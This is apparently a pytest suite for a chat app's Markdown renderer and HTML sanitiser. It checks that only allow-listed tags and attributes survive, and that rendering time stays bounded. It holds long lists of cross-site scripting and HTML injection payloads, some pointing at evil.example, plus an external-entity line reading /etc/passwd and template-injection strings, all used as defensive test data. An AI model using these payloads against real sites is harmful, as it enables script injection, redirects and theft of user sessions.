"""Whatever a model writes, only these tags and attributes reach the page."""

import html
import re
import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings, strategies as st
from markupsafe import Markup

from tests.web.chat.parsed import Parsed
from web.chat.markdown import plain, quick, render, render_open
from web.chat.markdown.sanitiser import clean
from web.chat.markdown.source import read
from web.chat.markdown.writer import Writer

# Written down here once more, so that a slip in the list of the sanitiser is seen.
TEXT = "p br hr h2 h3 h4 h5 h6 ul ol li blockquote strong em del a sup table thead tbody tr th td".split()
CODE = "pre code figure figcaption span div input".split()
MATHS = (
    "math menclose mfrac mi mn mo mover mpadded mphantom mroot mrow mspace msqrt mstyle msub msubsup msup mtable mtd "
    "mtext mtr munder munderover".split()
)
ATTRIBUTES = {
    "a": {"href", "title", "rel", "id", "aria-label"},
    "div": {"class", "role", "aria-label", "tabindex"},
    "figure": {"class", "dir"},
    "input": {"type", "disabled", "checked", "aria-label"},
    "li": {"dir", "id"},
    "math": {"display"},
    "ol": {"start", "class"},
    "p": {"class", "dir"},
    "pre": {"tabindex", "aria-label"},
    "span": {"class"},
    "td": {"dir", "class", "align"},
    "th": {"dir", "class", "align", "scope"},
} | {f"h{level}": {"dir"} for level in range(2, 7)}
VALUES = {
    "align": r"center",
    "class": r"|plain|scroll|code|footnotes|number|[a-z][a-z\d]?",
    "dir": r"auto|ltr",
    "display": r"block",
    "href": r"(?:https?://|mailto:)[^\x00-\x20\\]+|#fn-[\w-]+",
    "id": r"fn-[\w-]+",
    "rel": r"noopener noreferrer nofollow",
    "role": r"region",
    "scope": r"col",
    "tabindex": r"0",
    "type": r"checkbox",
}


def check(markup: str) -> Parsed:
    parsed = Parsed(markup)
    assert not parsed.unclosed
    assert not parsed.comments
    for tag in parsed.tags:
        assert tag.name in (*TEXT, *CODE, *MATHS)
        for name, value in tag.attributes.items():
            if tag.name in MATHS[1:]:
                assert re.fullmatch(r"[a-z]+", name)
                assert name not in ("style", "class", "id", "href") and not name.startswith("on")
                assert re.fullmatch(r"[\w.,+# -]*", value)
            else:
                assert name in ATTRIBUTES.get(tag.name, set()), f"{name} on {tag.name}"
                assert re.fullmatch(VALUES.get(name, r"(?s:.*)"), value), f"{name}={value!r}"
    return parsed


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror=aler",
    '<img src="x',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mi><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<form action=/logout method=post><button>Go on</button></form>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=password name=password>",
    "<textarea></textarea><select><option>x</select>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<button commandfor=delete-conversation command=show-modal>x</button>",
    "<button popovertarget=sidebar>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='notice bad' id=composer>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=/logout>x</a>",
    "<a href='https://a.example' target=_blank onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<video poster=//evil.example/x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<plaintext>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<slot name=x>",
    "<dialog open>x</dialog>",
    "<portal src=//evil.example>",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<div data-hx-post=/settings hx-trigger='every 1s'>x</div>",
    "<hx-partial hx-target='#main' hx-swap=innerHTML>x</hx-partial>",
    "<div hx-sse:connect=/chat/1/events hx-swap-oob=true id=main>x</div>",
    "<div is=x-y slot=z contenteditable autofocus tabindex=1 accesskey=s>x</div>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href=x?>",
    "<!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<<script>alert(1)//<</script>",
    "</p></div></article><script>alert(1)</script>",
    "</code></pre></figure><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](&#x01;javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](/logout)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    '[x](https://a.example/"onmouseover=alert(1)//)',
    "[x](https://a.example 'a\" onclick=\"alert(1)')",
    "[x](https://a.example '<img src=x onerror=alert(1)>')",
    "[<script>alert(1)</script>](https://a.example)",
    "[x][r]\n\n[r]: javascript:alert(1) 'x'",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![" onerror=alert(1)](https://a.example/x.png)',
    "![x](https://a.example/x.png '\" onerror=\"alert(1)')",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>`",
    "```<script>alert(1)</script>\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '~~~"onclick=alert(1)\n<img src=x onerror=alert(1)>\n~~~',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <br onclick=alert(1)> |",
    "- [x] <script>alert(1)</script>\n- <input type=text>",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "1. <svg onload=alert(1)>",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>]\n\n[^"><script>]: alert',
    "x[^a]\n\n[^a]: [x](javascript:alert(1))",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$$\\style{color:red}{x}$$",
    "$$\\class{notice}{x}$$",
    "$$\\text{<script>alert(1)</script>}$$",
    "\\(\\htmlId{main}{x}\\)",
    "\\[\\text{&lt;img src=x onerror=alert(1)&gt;}\\]",
    "\ufdd00\ufdd1<script>\ufdd01\ufdd1 \\(x\\)",
    "**<b onclick=alert(1)>**",
    "<b>**bold</b>**",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_known_tags_and_attributes_come_out(payload: str) -> None:
    for text in (payload, f"Before {payload} after", f"Before\n\n{payload}\n\nafter", f"- item\n\n  {payload}"):
        check(render(text, anchor="m"))
        check(render_open(text, anchor="m"))
    check(plain(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_cut_off_anywhere_is_harmless(payload: str) -> None:
    for end in range(len(payload)):
        check(render_open(payload[:end], anchor="m"))
        check(render(payload[:end], anchor="m"))


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if re.match(r"<[a-z/]", payload)])
def test_raw_html_is_shown_to_the_reader(payload: str) -> None:
    shown = check(render(payload, anchor="m")).text

    # What is Markdown in between may be read as such: stresses, code, references of characters.
    assert re.sub(r"[\s*`<>]", "", html.unescape(shown)) == re.sub(r"[\s*`<>]", "", html.unescape(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_would_hold_as_well(payload: str) -> None:
    once = clean(payload)

    check(once)
    assert clean(once) == once


HOSTILE_HTML = [
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="//evil.example/a">x</a>',
    '<a href="/logout">x</a>',
    '<a href="fn-x">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a id="composer" href="#main">x</a>',
    '<li id="message-1">x</li>',
    '<input type="text" name="password">',
    '<p class="notice bad" dir="auto" style="x" onclick="x">x</p>',
    '<span class="k evil">x</span>',
    '<div class="scroll dialog" role="dialog" tabindex="5" aria-label="Table">x</div>',
    '<math display="inline" style="x"><mrow class="x" onclick="y"><mi mathvariant="javascript:">x</mi></mrow></math>',
    '<math><mpadded voffset="900em" lspace="-900em" width="900em"><mi>x</mi></mpadded></math>',
    "<h1>x</h1><img src=x><svg><p>x",
    '<ol start="javascript:1"><li>x</ol>',
    '<td align="javascript:">x</td>',
]


@pytest.mark.parametrize("markup", HOSTILE_HTML)
def test_html_that_slipped_through_every_step_before_is_stripped(markup: str) -> None:
    cleaned = clean(markup)

    check(cleaned)
    assert "x" in cleaned or "<input" in cleaned
    assert clean(cleaned) == cleaned


def test_an_input_can_only_be_a_box_that_nobody_ticks() -> None:
    [box] = Parsed(clean("<input type=text name=q value=x autofocus>")).tags

    assert box.attributes == {"type": "checkbox", "disabled": ""}


@pytest.mark.parametrize("show", [render, render_open])
def test_the_sanitiser_comes_last_and_makes_up_for_a_fault_in_the_writer(
    show: Callable[..., Markup], monkeypatch: pytest.MonkeyPatch
) -> None:
    def careless(writer: Writer, raw: str) -> None:
        writer.takes_addresses_or_markup = True
        writer._out.append(raw)

    monkeypatch.setattr(Writer, "_raw", careless)

    shown = show("a <img src=x onerror=alert(1)> <b onclick=alert(1)>b</b>", anchor="m")

    assert "<img" not in shown
    assert "onclick" not in shown
    assert "b</p>" in shown


# Any text

PIECES = [
    *"a b* c_ ** __ ~~ ~ ` `` ``` ~~~ ```py | |a|b| |--|:-:| # ## > - + * 1. 2) [ ] ( ) ![ ]( (/u)".split(),
    *"(https://a.example) [r] [^1] [^1]: [x] < > <b> </b> <div> <!-- --> <br> <https://a.example>".split(),
    *"<a@b.example> & &amp; &lt; &#13; &#0; \\ \\( \\) \\[ \\] $$ $ --- === *** ' \" { } % é א 😀 \ufdd0 x^2".split(),
    *("\\frac{a}{b}", "\\\\", " ", "  ", "    ", "\t", "\n", "\n", "\n\n", "\x0c", "\x01", "\xa0", "\u2028"),
    *("[r]: https://a.example 'T'\n", "- |a|\n  |-|\n", "- a\n", "  - b\n"),
]
texts = st.lists(st.sampled_from(PIECES), max_size=40).map("".join) | st.text(
    st.characters(exclude_characters="\r\x00", exclude_categories=["Cs"])
)


@settings(max_examples=250, deadline=None)
@given(text=texts)
def test_the_sanitiser_finds_nothing_to_change_in_what_the_writer_wrote(text: str) -> None:
    written = Writer(read(text), "m").html()

    assert clean(written) == written
    check(written)


@settings(max_examples=250, deadline=None)
@given(text=texts)
def test_what_the_sanitiser_does_not_see_while_it_grows_would_pass_it_unchanged(text: str) -> None:
    shown = render_open(text, anchor="m")

    assert clean(shown) == shown


@settings(max_examples=250, deadline=None)
@given(text=texts)
def test_the_short_way_gives_what_the_writer_gives(text: str) -> None:
    shown = quick.html(text)

    assert shown is None or shown == Writer(read(text), "m").html()


@pytest.mark.parametrize(
    "text",
    [
        "A paragraph.",
        "- **a** `b`\n- c\n\n  d",
        "# H\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n",
        "> q\n\n1. x\n2. y\n\n---\n",
    ],
)
def test_ordinary_text_goes_the_short_way(text: str) -> None:
    assert quick.html(text) == Writer(read(text), "m").html()


@settings(deadline=None)
@given(markup=texts)
def test_cleaning_twice_is_cleaning_once(markup: str) -> None:
    once = clean(markup)

    assert clean(once) == once


@settings(deadline=None)
@given(text=st.text(st.characters(exclude_characters="\r\x00", exclude_categories=["Cs"])))
def test_a_question_shows_every_character(text: str) -> None:
    shown = Parsed(re.sub(r"<summary>.*</summary>", "", plain(text)))

    assert shown.text.replace("\n", "").replace(" ", "") == text.replace("\n", "").replace(" ", "") or not text.strip()


UNITS = [">", "1. ", "- a\n", "*a ", "[", "[a](", "![a]", "`a ", "<", "<a ", "<!--", "&amp;", "|a|\n|-|\n", "$$", "\\("]
UNITS += ["\\(x\\)", "~a ", "~~a ", "\n", "a\n\n", "# a\n", "```\n", "> ```\n", "- [x] a\n", "<http://a.b>", "[^1] "]
UNITS += ["[^a]: b\n\n", "    a\n\n"]


@pytest.mark.parametrize("piece", UNITS)
def test_32_kilobytes_of_anything_take_a_bounded_time(piece: str) -> None:
    text = piece * (32_768 // len(piece))
    started = time.process_time()

    render(text, anchor="m")
    render_open(text, anchor="m")

    # Some 0.1 s on a quiet machine; time that grows with the square would be minutes.
    assert time.process_time() - started < 10
